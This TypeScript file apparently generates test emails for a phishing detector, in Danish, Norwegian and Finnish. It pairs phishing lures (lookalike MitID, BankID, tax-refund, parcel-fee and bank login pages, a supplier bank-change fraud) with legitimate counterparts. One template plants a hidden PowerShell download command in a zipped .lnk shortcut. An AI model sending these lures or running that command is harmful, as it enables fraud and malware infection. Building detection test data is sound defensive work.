// The twenty-third unseen set's mail in the scene's other languages: Danish for the Copenhagen shop,
// Norwegian for the Oslo shop and its suppliers, Finnish for customer service in Helsinki. Phishing (MitID,
// Skattestyrelsen, e-Boks, Bring, BankID, Vipps, Posti, Vero, bank logins, a supplier's changed account, a
// complaint with a shortcut in a zip) and the legitimate mail it resembles (digital post, settlements,
// carriers' invoices, customers writing with photos, a bank change to be confirmed by phone, shift plans).
import {
  AP,
  addDays,
  addr,
  amount,
  BOX,
  brandPhish,
  CFO,
  COMPANY,
  CPH,
  CPH2,
  CS_FI,
  CS_LEAD,
  cetOffset,
  chance,
  day,
  digits,
  freemail,
  full,
  hex,
  int,
  landing,
  letter,
  lnkFile,
  lookalike,
  type Mail,
  money,
  monthName,
  ORG,
  OSLO,
  OSLO2,
  orderNo,
  PASS,
  partnerLookalike,
  parts,
  photoJpeg,
  photoName,
  pick,
  product,
  quoteHead,
  randomDate,
  registered,
  SUPPLIERS,
  type Template,
  token,
  upper,
  uuid,
  WAREHOUSE,
  zipWith,
} from './unseen-23-scene.js';
import { onePagePdf } from './unseen-payloads.js';

const T = (kind: string, name: string, make: Template['make']): Template => ({ kind, name, make });

const DK_SHOP = [CPH, CPH2];
const NO_SHOP = [OSLO, OSLO2];
const FI_CS = [CS_LEAD, CS_FI];

function clientVia(address: string): Mail['via'] {
  if (address.endsWith('gmail.com')) return 'gmail';
  if (address.endsWith('icloud.com')) return 'apple';
  if (/outlook|hotmail|live/.test(address)) return 'outlook-consumer';
  return 'direct';
}

// ---------------------------------------------------------------------------------------------------------
// Phishing: Danish

const mitid = T('mitid-verification', 'mitid-renewal-da', (r) => {
  const look = pick(r, [
    lookalike(r, 'mitid', ['fornyelse', 'dk', 'sikkerhed', 'opdatering'], ['com', 'net', 'online', 'info']),
    'mitid-dk.support',
  ]);
  const to = addr(pick(r, DK_SHOP));
  return brandPhish(r, {
    brand: 'MitID',
    color: '#0060e6',
    lang: 'da',
    to,
    real: 'mitid.dk',
    look,
    names: ['MitID', 'MitID Support', 'MitID – Digitaliseringsstyrelsen'],
    locals: ['noreply', 'support', 'info'],
    subject: pick(r, [
      'Din MitID skal fornyes',
      'Vigtigt: bekræft din MitID inden for 24 timer',
      'Din MitID app er blevet spærret',
      'Opdatering af MitID påkrævet',
    ]),
    blocks: [
      `Kære ${to.name?.split(' ')[0]},`,
      pick(r, [
        'Som led i overgangen til nye sikkerhedskrav skal alle brugere bekræfte deres MitID. Hvis du ikke gør det inden for 24 timer, bliver din MitID midlertidigt spærret.',
        'Vi har registreret et login fra en ukendt enhed. Af sikkerhedsmæssige årsager er din MitID app blevet spærret, indtil du bekræfter din identitet.',
      ]),
      {
        button: {
          label: pick(r, ['Bekræft MitID', 'Forny nu', 'Genaktivér MitID']),
          href: landing(r, look, 'mitid', `bekraeft?id=${token(r, 10)}`),
        },
      },
      'Med venlig hilsen\nMitID',
    ],
    footer: ['Digitaliseringsstyrelsen, Landgreven 4, 1301 København K'],
    modes: { look: 5, hacked: 3, free: 2 },
  });
});

const skatDk = T('tax-refund', 'skattestyrelsen-refund-da', (r) => {
  const look = pick(r, [
    lookalike(r, 'skat', ['tilbagebetaling', 'dk', 'borger', 'refusion'], ['com', 'net', 'online', 'info']),
    'skattestyrelsen-dk.com',
  ]);
  const amt = amount(r, 1200, 9800, false);
  return brandPhish(r, {
    brand: 'Skattestyrelsen',
    color: '#14143c',
    lang: 'da',
    to: addr(pick(r, DK_SHOP)),
    real: 'skat.dk',
    look,
    names: ['Skattestyrelsen', 'SKAT', 'Skattestyrelsen – Tilbagebetaling'],
    locals: ['noreply', 'info', 'tilbagebetaling'],
    subject: pick(r, [
      `Du har ${money(amt, 'DKK', 'da')} til gode`,
      'Din årsopgørelse er klar – penge tilbage',
      'Bekræft din NemKonto for udbetaling',
    ]),
    blocks: [
      'Kære borger,',
      `Efter gennemgang af din årsopgørelse har du **${money(amt, 'DKK', 'da')}** til gode. Vi kan ikke udbetale beløbet, da din NemKonto ikke kunne verificeres.`,
      'Log ind med MitID og bekræft dine kontooplysninger inden 3 dage. Ellers bortfalder udbetalingen.',
      {
        button: {
          label: pick(r, ['Log ind med MitID', 'Bekræft NemKonto', 'Modtag beløbet']),
          href: landing(r, look, 'skat-dk', `tastselv/udbetaling?ref=${digits(r, 8)}`),
        },
      },
      'Med venlig hilsen\nSkattestyrelsen',
    ],
    modes: { look: 6, hacked: 3, spoof: 1 },
  });
});

const eBoks = T('digital-post-phish', 'e-boks-new-letter-da', (r) => {
  const look = pick(r, [
    lookalike(r, 'e-boks', ['post', 'dk', 'besked', 'login'], ['com', 'net', 'online', 'site']),
    'eboks-digitalpost.com',
  ]);
  const sender = pick(r, ['Skattestyrelsen', 'Udbetaling Danmark', 'Gældsstyrelsen', 'Københavns Kommune']);
  return brandPhish(r, {
    brand: 'e-Boks',
    color: '#004c97',
    lang: 'da',
    to: addr(pick(r, DK_SHOP)),
    real: 'e-boks.dk',
    look,
    names: ['e-Boks', 'Digital Post', 'e-Boks Notifikation'],
    locals: ['noreply', 'notifikation', 'post'],
    subject: pick(r, [
      `Ny post fra ${sender}`,
      'Du har ulæst digital post',
      `Vigtig meddelelse fra ${sender} – frist i dag`,
    ]),
    blocks: [
      'Hej,',
      `Du har modtaget en ny meddelelse fra **${sender}**. Meddelelsen indeholder en frist, og der er endnu ikke taget stilling til den.`,
      { button: { label: 'Læs meddelelsen', href: landing(r, look, 'eboks', `inbox/${uuid(r)}`) } },
      { small: 'Denne e-mail kan ikke besvares.' },
    ],
    modes: { look: 6, hacked: 4 },
  });
});

// ---------------------------------------------------------------------------------------------------------
// Phishing: Norwegian

const bringFee = T('parcel-fee', 'bring-customs-fee-no', (r) => {
  const look = pick(r, [
    lookalike(r, 'bring', ['toll', 'sporing', 'pakke', 'no'], ['com', 'net', 'online', 'info', 'top']),
    `posten-bring.${pick(r, ['com', 'net'])}`,
  ]);
  const id = `${upper(r, 2)}${digits(r, 9)}NO`;
  const fee = pick(r, [29, 39, 49, 89]);
  return brandPhish(r, {
    brand: 'Posten Bring',
    color: '#7bc144',
    lang: 'no',
    to: addr(pick(r, NO_SHOP)),
    real: 'bring.no',
    look,
    names: ['Bring', 'Posten Bring', 'Bring Kundeservice'],
    locals: ['noreply', 'sporing', 'info'],
    subject: pick(r, [
      `Pakken din ${id} venter på betaling`,
      'Tollgebyr må betales før levering',
      'Vi kunne ikke levere pakken din',
    ]),
    blocks: [
      'Hei,',
      `Sendingen din **${id}** er stoppet i tollen. For å få den levert må du betale et gebyr på ${money(fee, 'NOK', 'no')} innen 48 timer.`,
      {
        button: {
          label: pick(r, ['Betal og spor', 'Betal tollgebyr', 'Bekreft levering']),
          href: landing(r, look, 'bring', `sporing/${id}`),
        },
      },
      'Hvis gebyret ikke betales, returneres pakken til avsender.\n\nVennlig hilsen\nPosten Bring',
    ],
    modes: { look: 5, hacked: 3, free: 2 },
  });
});

const bankIdNo = T('bankid-renewal', 'bankid-no-expiry', (r) => {
  const look = pick(r, [
    lookalike(r, 'bankid', ['no', 'fornyelse', 'sikkerhet', 'norge'], ['com', 'net', 'online', 'info']),
    'bankid-norge.support',
  ]);
  const bank = pick(r, ['DNB', 'SpareBank 1', 'Nordea', 'Handelsbanken']);
  return brandPhish(r, {
    brand: 'BankID',
    color: '#39134c',
    lang: 'no',
    to: addr(pick(r, NO_SHOP)),
    real: pick(r, ['bankid.no', 'dnb.no']),
    look,
    names: ['BankID', `BankID – ${bank}`, `${bank} Sikkerhet`],
    locals: ['noreply', 'sikkerhet', 'kundeservice'],
    subject: pick(r, [
      'BankID-en din utløper snart',
      'Viktig: forny BankID innen fredag',
      'Din BankID er midlertidig sperret',
    ]),
    blocks: [
      'Hei,',
      pick(r, [
        `BankID-en din utløper om 3 dager. For å fortsette å bruke nettbank og offentlige tjenester må du fornye den hos ${bank}.`,
        'Vi har oppdaget uvanlig aktivitet knyttet til din BankID. Den er midlertidig sperret til du har bekreftet identiteten din.',
      ]),
      {
        button: {
          label: pick(r, ['Forny BankID', 'Bekreft identitet']),
          href: landing(r, look, 'bankid-no', `fornye?s=${hex(r, 12)}`),
        },
      },
      `Med vennlig hilsen\n${bank}`,
    ],
  });
});

const supplierBankNo = T('supplier-bank-change', 'supplier-account-change-no', (r) => {
  const s = pick(
    r,
    SUPPLIERS.filter((x) => x.country === 'NO'),
  );
  const lookDomain = partnerLookalike(r, s.domain);
  const free = chance(r, 0.25);
  const first = s.contact.split(' ')[0].toLowerCase();
  const from = {
    name: s.contact,
    address: free ? freemail(r, `${first}.${s.domain.split('-')[0]}`) : `${first}@${lookDomain}`,
  };
  const inv = `${int(r, 20000, 29999)}`;
  const amt = amount(r, 60000, 480000);
  const newAcct = `${digits(r, 4)}.${digits(r, 2)}.${digits(r, 5)}`;
  const iban = pick(r, [
    `LT${digits(r, 2)} 3250 0${digits(r, 3)} ${digits(r, 4)} ${digits(r, 4)}`,
    `GB${digits(r, 2)} REVO 0099 ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 2)}`,
    `NO${digits(r, 2)} ${newAcct.replace(/\./g, ' ')}`,
  ]);
  return {
    from,
    to: pick(r, [addr(AP), addr(CFO), BOX.ap]),
    subject: pick(r, [
      `Ny kontoinformasjon – faktura ${inv}`,
      'Endring av bankkonto',
      `SV: Faktura ${inv}`,
      'Viktig: nytt kontonummer for betaling',
    ]),
    auth: free ? PASS : registered(r),
    via: free ? clientVia(from.address) : pick(r, ['vps', 'direct'] as const),
    lang: 'no',
    ...letter({
      style: chance(r, 0.6) ? 'outlook' : 'plain',
      parts: parts(r, 0.2, 0.4),
      lang: 'no',
      blocks: [
        'Hei,',
        pick(r, [
          `Vi har byttet bank og ber dere om å betale faktura ${inv} (${money(amt, 'SEK', 'no')}) og alle fremtidige fakturaer til vår nye konto.`,
          `Grunnet revisjon er vår konto i ${s.bank} midlertidig sperret for innbetalinger. Vennligst betal faktura ${inv} til kontoen under.`,
        ]),
        {
          rows: [
            ['Mottaker', s.name],
            ['IBAN', iban],
            ['BIC', pick(r, ['REVOLT21', 'REVOGB21', 'DNBANOKK'])],
          ],
        },
        pick(r, [
          'Betalingen bør gjøres i dag så vi kan sende varene.',
          'Send gjerne bekreftelse når betalingen er gjort.',
          'Jeg er på reise og best å nå på e-post.',
        ]),
        `Med vennlig hilsen\n${s.contact}\n${s.name}`,
      ],
    }),
  };
});

const vippsMerchant = T('mobile-pay-merchant', 'vipps-business-agreement-no', (r) => {
  const look = pick(r, [
    lookalike(r, 'vipps', ['bedrift', 'portal', 'avtale', 'mobilepay'], ['com', 'net', 'online', 'info']),
    'vippsmobilepay-bedrift.com',
  ]);
  return brandPhish(r, {
    brand: 'Vipps MobilePay',
    color: '#ff5b24',
    lang: 'no',
    to: addr(pick(r, [OSLO, CFO])),
    real: 'vippsmobilepay.com',
    look,
    names: ['Vipps MobilePay', 'Vipps Bedrift', 'Vipps MobilePay Kundeservice'],
    locals: ['noreply', 'bedrift', 'kundeservice'],
    subject: pick(r, [
      'Utbetalingene deres er stanset',
      'Bekreft avtalen for Vipps i butikk',
      'Viktig: ny innlogging til Vipps-portalen',
    ]),
    blocks: [
      'Hei,',
      pick(r, [
        `Utbetalingene for salgsstedet ${COMPANY} – Akersgata er stanset fordi vi mangler oppdatert informasjon om reelle rettighetshavere.`,
        'Etter sammenslåingen av Vipps og MobilePay må alle bedriftsavtaler bekreftes på nytt med BankID.',
      ]),
      {
        button: {
          label: pick(r, ['Logg inn på portalen', 'Bekreft avtale', 'Oppdater informasjon']),
          href: landing(r, look, 'vipps-portal', `bedrift/${token(r, 8)}`),
        },
      },
      'Vennlig hilsen\nVipps MobilePay',
    ],
    modes: { look: 6, hacked: 3, spoof: 1 },
  });
});

// ---------------------------------------------------------------------------------------------------------
// Phishing: Finnish

const postiFee = T('parcel-fee', 'posti-customs-fee-fi', (r) => {
  const look = pick(r, [
    lookalike(r, 'posti', ['tulli', 'seuranta', 'paketti', 'fi'], ['com', 'net', 'online', 'info', 'top']),
    `posti-fi.${pick(r, ['com', 'net'])}`,
  ]);
  const id = `JJFI${digits(r, 14)}`;
  const fee = pick(r, [2.99, 3.49, 4.9, 1.99]);
  return brandPhish(r, {
    brand: 'Posti',
    color: '#f7a600',
    lang: 'fi',
    to: addr(pick(r, FI_CS)),
    real: 'posti.fi',
    look,
    names: ['Posti', 'Posti Asiakaspalvelu', 'Posti Tulli'],
    locals: ['noreply', 'seuranta', 'info'],
    subject: pick(r, [
      `Lähetyksesi ${id} odottaa maksua`,
      'Pakettisi on pysäytetty tullissa',
      'Toimitus epäonnistui – vahvista osoite',
    ]),
    blocks: [
      'Hei,',
      `Lähetyksesi **${id}** odottaa tullausta. Toimitus jatkuu, kun tullimaksu ${money(fee, 'EUR', 'fi')} on maksettu.`,
      {
        button: {
          label: pick(r, ['Maksa ja seuraa', 'Vahvista toimitus']),
          href: landing(r, look, 'posti', `seuranta/${id}`),
        },
      },
      'Jos maksua ei suoriteta 48 tunnin kuluessa, lähetys palautetaan lähettäjälle.\n\nYstävällisin terveisin\nPosti',
    ],
    modes: { look: 5, hacked: 3, free: 2 },
  });
});

const veroRefund = T('tax-refund', 'vero-refund-fi', (r) => {
  const look = pick(r, [
    lookalike(r, 'vero', ['palautus', 'omavero', 'fi', 'hyvitys'], ['com', 'net', 'online', 'info']),
    'omavero-fi.com',
  ]);
  const amt = amount(r, 180, 1900);
  return brandPhish(r, {
    brand: 'Verohallinto',
    color: '#003580',
    lang: 'fi',
    to: addr(pick(r, FI_CS)),
    real: 'vero.fi',
    look,
    names: ['Verohallinto', 'OmaVero', 'Vero – Veronpalautus'],
    locals: ['noreply', 'omavero', 'palautus'],
    subject: pick(r, [
      `Sinulle on maksettavana veronpalautusta ${money(amt, 'EUR', 'fi')}`,
      'Veronpalautus: vahvista tilinumerosi',
      'Uusi viesti OmaVerossa',
    ]),
    blocks: [
      'Hei,',
      `Verotuksesi on valmistunut ja sinulle on maksettavana veronpalautusta **${money(amt, 'EUR', 'fi')}**. Tilinumerosi puuttuu tai se on virheellinen.`,
      'Kirjaudu OmaVeroon pankkitunnuksilla ja vahvista tilinumerosi kolmen päivän kuluessa.',
      {
        button: {
          label: pick(r, ['Kirjaudu OmaVeroon', 'Vahvista tilinumero']),
          href: landing(r, look, 'omavero', `palautus?id=${digits(r, 9)}`),
        },
      },
      'Ystävällisin terveisin\nVerohallinto',
    ],
    modes: { look: 6, hacked: 3, spoof: 1 },
  });
});

const fiBank = T('bank-credential', 'fi-bank-identification', (r) => {
  const bank = pick(r, [
    { name: 'OP', real: 'op.fi', stem: 'op', color: '#ff6a10' },
    { name: 'Nordea', real: 'nordea.fi', stem: 'nordea', color: '#0000a0' },
    { name: 'Danske Bank', real: 'danskebank.fi', stem: 'danskebank', color: '#003755' },
  ]);
  const look = lookalike(
    r,
    bank.stem,
    ['tunnistus', 'verkkopankki', 'asiakas', 'fi'],
    ['com', 'net', 'online', 'info'],
  );
  return brandPhish(r, {
    brand: bank.name,
    color: bank.color,
    lang: 'fi',
    to: addr(pick(r, FI_CS)),
    real: bank.real,
    look,
    names: [bank.name, `${bank.name} Asiakaspalvelu`, `${bank.name} Turvallisuus`],
    locals: ['noreply', 'asiakaspalvelu', 'info'],
    subject: pick(r, [
      'Päivitä asiakastietosi',
      'Verkkopankkitunnuksesi on lukittu',
      'Tärkeä tiedote: tunnistautuminen vaaditaan',
    ]),
    blocks: [
      'Hyvä asiakas,',
      pick(r, [
        'Rahanpesulain mukaan meidän on päivitettävä asiakkaidemme tiedot säännöllisesti. Tietosi ovat vanhentuneet, ja palveluidesi käyttöä on rajoitettu.',
        'Havaitsimme epätavallista toimintaa tililläsi. Tunnuksesi on lukittu turvallisuussyistä, kunnes vahvistat henkilöllisyytesi.',
      ]),
      {
        button: {
          label: pick(r, ['Kirjaudu ja päivitä', 'Vahvista henkilöllisyys']),
          href: landing(r, look, `${bank.stem}-fi`, `tunnistus?sid=${hex(r, 14)}`),
        },
      },
      `Ystävällisin terveisin\n${bank.name}`,
    ],
  });
});

const complaintFi = T('customer-complaint-malware', 'reklamaatio-lnk-fi', (r) => {
  const first = pick(r, ['Mikko', 'Laura', 'Antti', 'Sanna', 'Tiina', 'Juha']);
  const last = pick(r, ['Mäkinen', 'Nieminen', 'Heikkinen', 'Laine', 'Koskinen']);
  const c = {
    name: `${first} ${last}`,
    address: `${first.toLowerCase()}.${last.toLowerCase().replace(/ä/g, 'a')}${pick(r, ['', String(int(r, 1, 99))])}@${pick(r, ['gmail.com', 'outlook.com', 'luukku.com', 'hotmail.com'])}`,
  };
  const o = orderNo(r);
  const inner = pick(r, [`IMG_${digits(r, 4)}.jpg.lnk`, `kuvat_${o}.lnk`, `kuitti.pdf.lnk`]);
  return {
    from: c,
    to: pick(r, [BOX.helsinki, addr(pick(r, FI_CS))]),
    subject: pick(r, [`Reklamaatio tilaus ${o}`, 'Viallinen tuote – kuvat liitteenä', `Palautus ${o}`]),
    auth: PASS,
    via: clientVia(c.address),
    lang: 'fi',
    attachments: [
      {
        filename: pick(r, [`kuvat_${o}.zip`, 'reklamaatio_kuvat.zip', 'IMG.zip']),
        type: 'application/zip',
        content: zipWith(
          inner,
          lnkFile(
            `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -c iwr ${token(r, 8)}.${pick(r, ['top', 'xyz', 'shop'])}`,
          ),
        ),
      },
    ],
    ...letter({
      style: chance(r, 0.5) ? 'gmail' : 'plain',
      parts: parts(r, 0.2, 0.4),
      blocks: [
        'Hei,',
        `Tilaamani ${product(r).en.split(' ').slice(1).join(' ')} (tilaus ${o}) oli rikki, kun avasin paketin. Liitteenä kuvat vauriosta, pakkasin ne zip-tiedostoon kun niitä oli niin monta.`,
        'Haluan rahat takaisin tai uuden tuotteen mahdollisimman pian.',
        `Terveisin\n${c.name}`,
      ],
    }),
  };
});

export const LOCAL_PHISHING_23: readonly Template[] = [
  mitid,
  skatDk,
  eBoks,
  bringFee,
  bankIdNo,
  supplierBankNo,
  vippsMerchant,
  postiFee,
  veroRefund,
  fiBank,
  complaintFi,
];

// ---------------------------------------------------------------------------------------------------------
// Legitimate: Danish

const eBoksReal = T('digital-post-notice', 'e-boks-notification-da', (r) => {
  const sender = pick(r, [
    'Skattestyrelsen',
    'Erhvervsstyrelsen',
    'Københavns Kommune',
    'Danske Bank',
    'PFA Pension',
  ]);
  return {
    from: { name: 'e-Boks', address: 'noreply@e-boks.dk' },
    to: addr(pick(r, DK_SHOP)),
    subject: pick(r, ['Du har modtaget ny post i e-Boks', `Ny post fra ${sender}`]),
    via: 'direct',
    lang: 'da',
    ...letter({
      style: 'branded',
      parts: parts(r, 0.3, 0.2),
      brand: 'e-Boks',
      color: '#004c97',
      lang: 'da',
      blocks: [
        'Hej,',
        `Du har modtaget ny post fra ${sender}. Log ind på e-Boks via app eller på e-boks.dk for at læse den.`,
        {
          small:
            'Af sikkerhedshensyn indeholder denne besked ikke links. Åbn e-Boks-appen eller skriv adressen i din browser.',
        },
      ],
      footer: [
        'e-Boks A/S · Hans Bekkevolds Allé 7 · 2900 Hellerup',
        'Du modtager denne notifikation, fordi du har tilmeldt dig notifikationer om ny post.',
      ],
    }),
  };
});

const dkCustomer = T('customer-message', 'customer-return-photo-da', (r) => {
  const first = pick(r, ['Søren', 'Line', 'Mads', 'Camilla', 'Rasmus', 'Ida']);
  const last = pick(r, ['Jensen', 'Hansen', 'Pedersen', 'Mortensen', 'Sørensen']);
  const c = {
    name: `${first} ${last}`,
    address: `${first.toLowerCase().replace('ø', 'oe')}${pick(r, ['.', ''])}${last.toLowerCase().replace('ø', 'oe')}@${pick(r, ['gmail.com', 'hotmail.com', 'live.dk', 'icloud.com'])}`,
  };
  const o = orderNo(r);
  const p = product(r);
  const photos = int(r, 1, 3);
  return {
    from: c,
    to: pick(r, [BOX.cph, BOX.cs]),
    subject: pick(r, [`Reklamation ordre ${o}`, `Spørgsmål om ombytning – ${p.en}`, `Returnering af ${o}`]),
    auth: PASS,
    via: clientVia(c.address),
    lang: 'da',
    attachments: Array.from({ length: photos }, (_, i) => ({
      filename: photoName(r, i),
      type: 'image/jpeg',
      content: photoJpeg(r),
    })),
    ...letter({
      style: c.address.endsWith('icloud.com') ? 'apple' : 'plain',
      parts: parts(r, 0.1, 0.5),
      blocks: [
        'Hej,',
        pick(r, [
          `Jeg købte ${p.en.split(' ').slice(1).join(' ')} i jeres butik i Frederiksborggade for et par uger siden (ordre ${o}), og lynlåsen er allerede gået i stykker. Jeg har vedhæftet billeder.`,
          `Jeg vil gerne bytte min ${p.en.split(' ').slice(1).join(' ')} til en anden størrelse. Kan jeg gøre det i butikken i København, selvom jeg har købt den online? Billede af kvitteringen er vedhæftet.`,
        ]),
        'På forhånd tak.',
        `Venlig hilsen\n${c.name}`,
      ],
    }),
  };
});

const dkRota = T('internal-schedule', 'cph-shift-plan-da', (r) => {
  const d = randomDate(r);
  const week = int(r, 2, 51);
  const xlsx = zipWith('xl/workbook.xml', Buffer.from('<?xml version="1.0" encoding="UTF-8"?><workbook/>'));
  return {
    from: addr(CPH),
    to: [addr(CPH2), { name: 'Jonas Winther', address: `jonas.winther@corp.example` }],
    cc: chance(r, 0.3) ? [addr(pick(r, [WAREHOUSE, OSLO]))] : undefined,
    subject: pick(r, [
      `Vagtplan uge ${week}`,
      `Vagtplan uge ${week}–${week + 1} + vareoptælling`,
      'Ændring i vagtplanen',
    ]),
    date: d,
    via: 'internal',
    lang: 'da',
    attachments: [
      {
        filename: `Vagtplan_uge${week}.xlsx`,
        type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        content: xlsx,
      },
    ],
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.2, 0.1),
      lang: 'da',
      blocks: [
        'Hej alle,',
        `Her er vagtplanen for uge ${week}. ${pick(r, ['Bemærk at vi har vareoptælling torsdag efter lukketid.', 'Freja og jeg bytter lørdag.', 'Der kommer en stor levering fra Göteborg onsdag formiddag.'])}`,
        'Sig til hvis der er noget der ikke passer.',
        `Mvh\n${full(CPH)}\nButikschef, Fjällspår København\n${ORG.cphShop}`,
      ],
    }),
  };
});

const mobilepaySettlement = T('psp-settlement', 'vipps-mobilepay-settlement-da', (r) => {
  const d = randomDate(r);
  const amt = amount(r, 8000, 120000);
  return {
    from: { name: 'Vipps MobilePay', address: 'noreply@vippsmobilepay.com' },
    to: pick(r, [addr(CPH), BOX.finance]),
    subject: pick(r, [
      `Afregning for ${day(d, 'da')}`,
      'Din månedlige afregningsrapport er klar',
      'Udbetaling gennemført',
    ]),
    date: d,
    via: 'sendgrid',
    auth: { spf: 'pass', dkim: 'pass', dmarc: 'pass' },
    lang: 'da',
    ...letter({
      style: 'branded',
      parts: parts(r, 0.4, 0.1),
      brand: 'Vipps MobilePay',
      color: '#5a78ff',
      lang: 'da',
      blocks: [
        'Hej Fjällspår København,',
        `Vi har udbetalt **${money(amt, 'DKK', 'da')}** til jeres konto. Beløbet dækker betalinger modtaget ${day(addDays(d, -1), 'da')}.`,
        {
          rows: [
            ['Salgssted', 'Fjällspår København – Frederiksborggade'],
            ['Antal betalinger', String(int(r, 12, 240))],
            ['Gebyrer', money(amt * 0.0099, 'DKK', 'da')],
          ],
        },
        'Du kan se og downloade rapporten i [MobilePay Portalen](https://portal.vippsmobilepay.com/).',
      ],
      footer: ['Vipps MobilePay AS · Robert Levins gate 5 · 0154 Oslo'],
    }),
  };
});

// ---------------------------------------------------------------------------------------------------------
// Legitimate: Norwegian

const bringInvoice = T('carrier-invoice', 'bring-business-invoice-no', (r) => {
  const inv = digits(r, 9);
  const amt = amount(r, 4000, 68000);
  const d = randomDate(r);
  return {
    from: { name: 'Bring Faktura', address: 'faktura@bring.com' },
    to: pick(r, [BOX.ap, addr(AP), addr(OSLO)]),
    subject: pick(r, [`Faktura ${inv} fra Bring`, `Ny faktura fra Posten Bring AS – ${inv}`]),
    date: d,
    via: 'direct',
    lang: 'no',
    attachments: [
      {
        filename: `Faktura_${inv}.pdf`,
        type: 'application/pdf',
        content: onePagePdf([
          `Posten Bring AS – Faktura ${inv}`,
          `Kunde: ${COMPANY} (Oslo)`,
          `Beløp: ${money(amt, 'NOK', 'no')}`,
          `Forfall: ${day(addDays(d, 30), 'no', true)}`,
          `Kontonummer: 8601.11.22334  KID: ${digits(r, 12)}`,
        ]),
      },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      lang: 'no',
      blocks: [
        'Hei,',
        `Vedlagt finner du faktura ${inv} for frakttjenester i perioden ${monthName(addDays(d, -20), 'no')}. Fakturaen forfaller ${day(addDays(d, 30), 'no')}.`,
        'Spesifikasjon av sendingene finner du i Mybring under Fakturaer.',
        'Med vennlig hilsen\nPosten Bring AS\nKundeservice bedrift',
      ],
    }),
  };
});

const noCustomer = T('customer-message', 'customer-question-no', (r) => {
  const first = pick(r, ['Kristian', 'Marte', 'Sindre', 'Ingvild', 'Eirik', 'Sigrid']);
  const last = pick(r, ['Johansen', 'Olsen', 'Larsen', 'Berg', 'Hagen']);
  const c = {
    name: `${first} ${last}`,
    address: `${first.toLowerCase()}.${last.toLowerCase()}@${pick(r, ['gmail.com', 'online.no', 'hotmail.com'])}`,
  };
  const p = product(r);
  const o = orderNo(r);
  return {
    from: c,
    to: pick(r, [BOX.oslo, BOX.cs]),
    subject: pick(r, [
      `Spørsmål om ${p.en.split(' ').slice(1).join(' ')}`,
      `Bestilling ${o} – levering`,
      'Henting i butikk?',
    ]),
    auth: PASS,
    via: clientVia(c.address),
    lang: 'no',
    ...letter({
      style: 'plain',
      parts: parts(r, 0.1, 0.6),
      blocks: [
        'Hei!',
        pick(r, [
          `Jeg bestilte ${p.en.split(' ').slice(1).join(' ')} på nettsiden (ordre ${o}) og valgte henting i butikken i Akersgata. Når kan jeg hente den?`,
          `Har dere ${p.en.split(' ').slice(1).join(' ')} på lager i Oslo-butikken, eller må jeg bestille på nett? Jeg skal på tur neste helg.`,
          `Pakken min (${o}) står som levert i Bring-sporingen, men jeg har ikke fått den. Kan dere sjekke?`,
        ]),
        `Mvh\n${c.name}`,
      ],
    }),
  };
});

const supplierBankNoReal = T('supplier-bank-notice', 'supplier-bank-change-confirm-by-phone-no', (r) => {
  const s = pick(
    r,
    SUPPLIERS.filter((x) => x.country === 'NO'),
  );
  const first = s.contact.split(' ')[0].toLowerCase();
  const d = randomDate(r);
  const pdf = onePagePdf([
    `${s.name}`,
    'Melding om endring av bankforbindelse',
    `Fra ${day(addDays(d, 30), 'no', true)} benytter vi ny bank.`,
    'Ny konto oppgis kun muntlig på telefon til kontaktperson hos dere.',
    'Ring oss på nummeret i leverandøravtalen for å bekrefte.',
    `Signert: daglig leder, ${s.name}`,
  ]);
  return {
    from: { name: s.contact, address: `${first}@${s.domain}` },
    to: pick(r, [addr(AP), BOX.ap]),
    cc: [addr(CFO)],
    subject: pick(r, [
      'Endring av bankforbindelse fra 1. neste måned',
      'Ny bank – vennligst bekreft per telefon',
      `Informasjon om bankbytte ${s.name}`,
    ]),
    date: d,
    via: 'm365',
    lang: 'no',
    attachments: [{ filename: 'Melding_om_bankbytte.pdf', type: 'application/pdf', content: pdf }],
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.2, 0.1),
      lang: 'no',
      blocks: [
        'Hei Sara,',
        `Vi bytter bank fra ${s.bank} i løpet av neste måned. For å unngå svindel sender vi ikke nye kontonummer på e-post.`,
        `Vennligst ring meg på sentralbordet vårt (nummeret dere har i leverandøravtalen, ikke et nummer fra denne e-posten), så gir jeg dere de nye opplysningene muntlig. Inntil dere har bekreftet per telefon, skal alle betalinger fortsatt gå til den gamle kontoen.`,
        'Vedlagt er et signert brev om endringen.',
        `Med vennlig hilsen\n${s.contact}\nØkonomi, ${s.name}`,
      ],
    }),
  };
});

const altinn = T('authority-notice', 'altinn-new-message-no', (r) => {
  return {
    from: { name: 'Altinn', address: 'noreply@altinn.no' },
    to: pick(r, [addr(OSLO), addr(CFO)]),
    subject: pick(r, [
      'Ny melding i Altinn',
      'Du har mottatt en ny melding i innboksen din i Altinn',
      'Påminnelse: frist for a-melding',
    ]),
    via: 'direct',
    lang: 'no',
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      lang: 'no',
      blocks: [
        'Hei,',
        `Det har kommet en ny melding til ${COMPANY} NUF i Altinn fra ${pick(r, ['Skatteetaten', 'Brønnøysundregistrene', 'NAV', 'Statistisk sentralbyrå'])}.`,
        'Logg inn på altinn.no for å lese meldingen.',
        { small: 'Denne e-posten kan ikke besvares. Altinn sender aldri e-post med lenker til innlogging.' },
      ],
    }),
  };
});

const osloInternal = T('internal-note', 'oslo-stocktake-no', (r) => {
  const d = randomDate(r);
  const d0 = addDays(d, -1);
  const subj = pick(r, ['Varetelling lørdag', 'Levering fra Göteborg', 'Kasseoppgjør og nøkler']);
  return {
    from: addr(OSLO2),
    to: addr(OSLO),
    subject: `SV: ${subj}`,
    date: d,
    via: 'internal',
    lang: 'no',
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.2, 0.2),
      lang: 'no',
      blocks: [
        'Hei Ingrid,',
        pick(r, [
          'Det passer fint for meg å ta varetellingen på lørdag. Jeg starter med skoveggen og teltene.',
          'Leveransen kom i dag, men det manglet to esker med fleecejakker. Jeg har sagt ifra til lageret i Göteborg.',
          'Kasseoppgjøret stemte i går. Nøklene ligger i safen som vanlig.',
        ]),
        `Hilsen\nHenrik`,
        {
          quote: {
            head: quoteHead('outlook', 'no', addr(OSLO), d0, addr(OSLO2), subj),
            text: 'Hei Henrik,\n\nKan du ta dette? Si fra om det ikke passer.\n\nIngrid',
          },
        },
      ],
    }),
  };
});

